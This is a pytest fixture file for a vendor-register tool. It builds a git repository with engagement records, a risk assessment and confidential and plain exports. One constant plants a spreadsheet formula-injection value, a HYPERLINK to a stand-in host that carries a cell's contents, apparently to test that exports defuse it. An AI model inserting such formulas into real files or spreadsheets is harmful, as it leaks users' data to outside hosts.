"""The example register with a history: one commit for all of it, and two changes of a scope after it."""

from __future__ import annotations

from pathlib import Path

import pytest

from tests.conftest import AS_OF
from tests.helpers.repos import Repo
from vendorbook import repository
from vendorbook.exports import Export, Material, gathered
from vendorbook.judging import Rules
from vendorbook.register import scope_digest
from vendorbook.repository.git_objects import Commit
from vendorbook.yaml_source import read

RECORD = "vendors/paper-crane/website/engagement.yaml"
ENTRY = "vendors/paper-crane/website/journal/2026-11-20-risk-assessment.yaml"
HOSTILE = """'=HYPERLINK("https://example.invalid/?"&A1,"x")'"""
"""What a record says of a service, in quotes that YAML takes off."""

AUTHOR = {"GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "duo.fangzheng@paper-boat.example"}


@pytest.fixture(scope="session")
def repo(tmp_path_factory: pytest.TempPathFactory, example_files: dict[str, bytes]) -> Repo:
    """Not to be changed."""
    made = Repo(tmp_path_factory.mktemp("register") / "repo")
    hostile = example_files[RECORD].replace("公司網站改版設計與前端開發".encode(), HOSTILE.encode())
    made.commit({**example_files, RECORD: hostile}, "all of it")
    changed = hostile.replace(b"trading_host: false", b"trading_host: true")
    assert example_files[RECORD] != hostile != changed
    made.commit({RECORD: changed}, "without an assessment")
    second = changed.replace(b"real_time_quotes: false", b"real_time_quotes: true")
    digest = scope_digest(read(second, RECORD).root.get("scope"))  # type: ignore[arg-type]
    made.stage({RECORD: second, ENTRY: _assessment(digest)})
    made.git("commit", "--quiet", "--message", "with one", env=AUTHOR)
    return made


def _assessment(digest: str) -> str:
    return (
        "kind: risk-assessment\ndate: 2026-11-20\ntrigger: change-of-service\nled_by: s-0107\n"
        f"scope_digest: {digest}\napproval: {{approved_on: 2026-11-20, approved_by: s-0103}}\n"
    )


def material_of(root: Path, *, confidential: bool = False, engagements: tuple[str, ...] = ()) -> Material:
    snapshot = Commit(root, "HEAD")
    return gathered(snapshot, Rules(repository.rules_of(snapshot)), AS_OF, engagements, confidential=confidential)


@pytest.fixture(scope="session")
def material(repo: Repo) -> Material:
    return material_of(repo.path)


@pytest.fixture(scope="session")
def everything(repo: Repo) -> Material:
    """With what must not leave the firm."""
    return material_of(repo.path, confidential=True)


@pytest.fixture(scope="session")
def export(everything: Material) -> Export:
    return Export(everything, "zh-TW")


@pytest.fixture(scope="session")
def plain(material: Material) -> Export:
    """Without it: what anybody gets who does not ask for more."""
    return Export(material, "zh-TW")
